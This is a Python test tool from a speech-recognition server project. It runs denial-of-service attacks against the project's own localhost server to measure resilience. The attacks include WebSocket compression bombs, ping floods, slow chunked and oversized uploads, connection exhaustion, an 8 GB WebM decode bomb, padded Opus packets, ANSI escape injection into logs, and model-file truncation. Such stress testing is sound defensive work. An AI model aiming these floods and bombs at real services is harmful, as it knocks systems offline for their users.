"""Attacks on `asrkit serve`, one kind a run; tools/attack_server.py measures their effect.

    python tools/attacks.py CASE HOST:PORT FOLDER

An attack prints "ready" when it begins and runs until SIGTERM. Then it prints its number of
connections and the number of bytes that it sent. Its clients connect from 127.0.0.2, so that the
server can distinguish them from others. FOLDER is the server's --state-dir, or any path without it.
"""

import asyncio
import fcntl
import io
import json
import os
import signal
import sys
import tempfile
import zlib
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager, suppress
from fractions import Fraction
from pathlib import Path
from typing import NamedTuple

import numpy as np
import soundfile

SOURCE = ("127.0.0.2", 0)
PAUSE_S = 0.02  # between two connections of a client
TEXT, BINARY, PING = 0x81, 0x82, 0x89  # first bytes of whole frames
HANDSHAKE = (
    "GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
    "Sec-WebSocket-Extensions: permessage-deflate\r\n\r\n"
)
STREAM, REALTIME, VOSK = "/v1/stream", "/v1/realtime?intent=transcription", "/vosk"


class Target:
    """A server, with counts of the connections and bytes sent to it.

    Args:
        address: host and port.
        folder: folder in which the server saves calls.
    """

    def __init__(self, address: str, folder: Path) -> None:
        host, _, port = address.partition(":")
        self.host, self.port, self.folder = host, int(port), folder
        self.connections = self.sent = 0

    @asynccontextmanager
    async def connection(self, path: str = "") -> AsyncIterator["Client"]:
        """A context manager of a connection, a WebSocket if it has a path; it aborts at the end."""
        streams = asyncio.open_connection(self.host, self.port, local_addr=SOURCE)
        reader, writer = await asyncio.wait_for(streams, 5)
        self.connections += 1
        try:
            client = Client(self, reader, writer)
            if path:
                await client.send(HANDSHAKE.format(path=path).encode())
                await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 5)
            yield client
        finally:
            writer.transport.abort()


class Client:
    """A connection of an attack."""

    def __init__(
        self, target: Target, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        self.target, self.reader, self.writer = target, reader, writer

    async def send(self, data: bytes) -> None:
        """Send bytes, once the buffer has room."""
        self.writer.write(data)
        self.target.sent += len(data)
        await self.writer.drain()
        await asyncio.sleep(0)  # drain does not wait while there is room

    async def flood(self, data: bytes) -> None:
        """Send the same bytes forever."""
        while True:
            await self.send(data)

    async def ignore(self) -> None:
        """Read and discard everything."""
        while await self.reader.read(1 << 16):
            pass

    async def flood_and_read(self, data: bytes) -> None:
        """Send the same bytes forever; read and discard the answers."""
        reading = asyncio.ensure_future(self.ignore())
        try:
            await self.flood(data)
        finally:
            reading.cancel()


def frame(kind: int, data: bytes) -> bytes:
    """Return a WebSocket frame, masked with zeros."""
    size = len(data)
    if size < 126:
        head = bytes([kind, 0x80 | size])
    elif size < 1 << 16:
        head = bytes([kind, 0xFE]) + size.to_bytes(2, "big")
    else:
        head = bytes([kind, 0xFF]) + size.to_bytes(8, "big")
    return head + bytes(4) + data


START = frame(TEXT, b'{"type": "start"}')
Deed = Callable[[Client], Awaitable[object]]


async def again(
    count: int, target: Target, path: str, first: bytes | Callable[[], bytes], then: Deed
) -> None:
    """Run `count` clients that connect, send and act forever, even if it fails.

    Args:
        path: address of a WebSocket; "" for a plain connection.
        first: bytes that a client sends first, or a function that returns them.
        then: function of the connected client.
    """

    async def one() -> None:
        while True:
            with suppress(OSError, EOFError, asyncio.TimeoutError, asyncio.LimitOverrunError):
                async with target.connection(path) as client:
                    await client.send(first() if callable(first) else first)
                    await then(client)
            await asyncio.sleep(PAUSE_S)

    await asyncio.gather(*(one() for _ in range(count)))


def flooding(data: bytes) -> Deed:
    return lambda client: client.flood_and_read(data)


def leaving_after(answer_s: float, pause_s: float) -> Deed:
    """Wait for an answer, then for a pause, and leave."""

    async def leave(client: Client) -> None:
        with suppress(asyncio.TimeoutError):
            await asyncio.wait_for(client.reader.read(1 << 16), answer_s)
        await asyncio.sleep(pause_s)

    return leave


# An attack prepares its data when it is called; it begins when the result is awaited.


def clears(target: Target) -> Awaitable[object]:
    clear = 500 * frame(TEXT, b'{"type": "input_audio_buffer.clear"}')
    reset = 500 * (frame(BINARY, bytes(2)) + frame(TEXT, b'{"reset": 1}'))
    return asyncio.gather(
        again(2, target, REALTIME, b"", flooding(clear)),
        again(2, target, VOSK, b"", flooding(reset)),
    )


def compressed(target: Target) -> Awaitable[object]:
    deflate = zlib.compressobj(wbits=-15)
    zeros = deflate.compress(bytes(1_000_000)) + deflate.flush(zlib.Z_SYNC_FLUSH)
    small = frame(BINARY | 0x40, zeros[:-4])  # RFC 7692: 1000 : 1
    return again(30, target, STREAM, START, flooding(small))


def pings(target: Target) -> Awaitable[object]:
    async def deaf(client: Client) -> None:
        client.writer.transport.pause_reading()  # type: ignore[attr-defined]
        await client.flood(500 * frame(PING, b"x" * 125))

    return again(4, target, STREAM, START, deaf)


def chunks(target: Target) -> Awaitable[object]:
    head = b"POST /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n\r\n"
    return again(2, target, "", head, flooding(b"1\r\n-\r\n" * 5_000))


def refused(target: Target) -> Awaitable[object]:
    head = (
        b"POST /v1/audio/transcriptions HTTP/1.1\r\nHost: 127.0.0.1\r\n"
        b"Origin: https://example.org\r\nContent-Length: 1000000000000\r\n"
        b"Content-Type: multipart/form-data; boundary=b\r\n\r\n"
    )
    return again(4, target, "", head, lambda client: client.flood(bytes(1 << 16)))


def silent(target: Target) -> Awaitable[object]:
    return again(250, target, "", b"", Client.ignore)


def upload(data: bytes) -> bytes:
    """Return a request that uploads a file."""
    disposition = b'Content-Disposition: form-data; name="file"; filename="a"'
    body = b"--b\r\n%s\r\n\r\n%s\r\n--b--\r\n" % (disposition, data)
    head = (
        "POST /v1/audio/transcriptions HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n"
        f"Content-Length: {len(body)}\r\nContent-Type: multipart/form-data; boundary=b\r\n\r\n"
    )
    return head.encode() + body


def silence(hours: int) -> bytes:
    """Return hours of silence as FLAC; an hour has 180 kB."""
    file = io.BytesIO()
    with soundfile.SoundFile(file, "w", 16_000, 1, format="FLAC") as flac:
        for _ in range(hours * 60):
            flac.write(np.zeros(16_000 * 60, np.int16))
    return file.getvalue()


def leaving(target: Target) -> Awaitable[object]:
    return again(8, target, "", upload(silence(3)), lambda _: asyncio.sleep(2))


def hours(target: Target) -> Awaitable[object]:
    return again(8, target, "", upload(silence(3)), Client.ignore)


def webm() -> bytes:
    """Return 11 hours of silence at 48 kHz as WebM: 5 MB, which decode to 8 GB of samples."""
    import av

    encoder = av.AudioCodecContext.create("libopus", "w")
    encoder.sample_rate, encoder.layout, encoder.format = 48_000, "mono", "s16"
    encoder.options = {"frame_duration": "120", "vbr": "on", "dtx": "1"}
    frame = av.AudioFrame.from_ndarray(np.zeros((1, 5760), np.int16), "s16", "mono")
    frame.sample_rate = 48_000
    silent = [bytes(each) for _ in range(20) for each in encoder.encode(frame)][-1]
    with tempfile.NamedTemporaryFile(suffix=".webm") as file:
        with av.open(file.name, "w") as container:
            stream = container.add_stream("libopus", rate=48_000, layout="mono")
            for number in range(330_000):
                packet = av.Packet(silent)
                packet.stream, packet.time_base = stream, Fraction(1, 1000)
                packet.pts = packet.dts = 120 * number
                container.mux(packet)
        return Path(file.name).read_bytes()


def video(target: Target) -> Awaitable[object]:
    return again(2, target, "", upload(webm()), Client.ignore)


def padded(size: int = 60_000) -> bytes:
    """Return an Opus packet (RFC 6716): a frame of 20 ms, and padding up to `size` bytes."""
    lengths, rest = [], size - 400
    while rest > 254:
        lengths.append(255)
        rest -= 254
    lengths.append(rest)
    return bytes([0x1B, 0x41, *lengths]) + bytes([0] * (254 * (len(lengths) - 1) + rest + 1))


def opus(target: Target) -> Awaitable[object]:
    start = json.dumps({"type": "start", "encoding": "opus", "sample_rate": 48_000}).encode()
    first = frame(TEXT, start) + frame(BINARY, padded()) * 30
    return again(10, target, STREAM, first, leaving_after(1, 0.2))


def dropped(target: Target) -> Awaitable[object]:
    """Begin calls with some audio and disconnect, so that the server keeps the calls."""
    return again(20, target, STREAM, START + frame(BINARY, bytes(32_000)), leaving_after(2, 0.2))


def starts(target: Target) -> Awaitable[object]:
    return again(20, target, STREAM, START, leaving_after(2, 0.0))


def idle(target: Target) -> Awaitable[object]:
    return again(40, target, REALTIME, b"", Client.ignore)


def rates(target: Target) -> Awaitable[object]:
    def start() -> bytes:
        rate = 11_027 + 2 * (target.connections % 200)
        return frame(TEXT, json.dumps({"type": "start", "sample_rate": rate}).encode())

    return again(10, target, STREAM, start, Client.ignore)


async def model(target: Target) -> None:
    """Truncate the model file in place, as `cp` of another file does, and restore it."""
    path = target.folder.with_name("model.safetensors")
    whole = path.read_bytes()
    while True:
        path.write_bytes(whole[: len(whole) // 2])
        await asyncio.sleep(1)
        path.write_bytes(whole)
        await asyncio.sleep(1)


async def lock(target: Target) -> None:
    with open(target.folder / "lock", "ab") as file:
        fcntl.flock(file, fcntl.LOCK_EX)
        await asyncio.Event().wait()


def logs(target: Target) -> Awaitable[object]:
    lines = [
        f"GET /{'%1B%5B31m' * 8}%0A{number} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
        for number in range(50)
    ]
    return asyncio.gather(
        again(10, target, "", b"", flooding("".join(lines).encode())),
        again(10, target, "", b"\x1b[31m\r\n\r\n" * 10, Client.ignore),
    )


class Attack(NamedTuple):
    run: Callable[[Target], Awaitable[object]]  # the result attacks until it is cancelled
    about: str
    keeps: bool = False  # the server has a --state-dir
    stops: tuple[str, ...] = ()  # goals that the server cannot reach under this attack


CASES = {
    "clears": Attack(clears, "2 clients that clear forever, 2 that reset (Vosk)"),
    "compressed": Attack(compressed, "30 sockets with compressed frames, 1000 : 1"),
    "pings": Attack(pings, "4 sockets with pings, whose pongs are never read"),
    "chunks": Attack(chunks, "2 bodies in chunks of 1 byte to /healthz"),
    "refused": Attack(refused, "4 rejected uploads that still send 1 TB"),
    "silent": Attack(silent, "250 connections that never send; the server has 256 descriptors"),
    "leaving": Attack(leaving, "8 uploads of 3 h of FLAC silence, which disconnect after 2 s"),
    "hours": Attack(hours, "8 uploads of 3 h of FLAC silence, which stay"),
    "video": Attack(video, "2 uploads of 5 MB of WebM that decode to 8 GB of samples"),
    "opus": Attack(opus, "10 clients that suspend calls with padded Opus packets"),
    "starts": Attack(starts, "20 clients that start a call and drop it"),
    "idle": Attack(idle, "40 realtime sockets without audio; the server has 20 places"),
    "rates": Attack(rates, "10 clients with odd sample rates"),
    "logs": Attack(logs, "20 clients that ask for missing pages or send garbage, with --log text"),
    "model": Attack(model, "the model's file is truncated in place, again and again"),
    "state": Attack(dropped, "20 clients that suspend calls in the state folder", keeps=True),
    "state-opus": Attack(opus, "like opus, with a state folder", keeps=True),
    "state-starts": Attack(starts, "like starts, with a state folder", keeps=True),
    "lock": Attack(
        lock, "another process holds the lock of the state folder", keeps=True, stops=("resumed",)
    ),
}


async def attack(case: Attack, target: Target) -> None:
    """Run an attack until SIGTERM."""
    working = asyncio.ensure_future(case.run(target))
    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, working.cancel)
    print("ready", flush=True)
    with suppress(asyncio.CancelledError):
        await working
    print(target.connections, target.sent, flush=True)


if __name__ == "__main__":
    os.nice(5)  # real attackers have their own machines
    name, address, folder = sys.argv[1:]
    asyncio.run(attack(CASES[name], Target(address, Path(folder))))
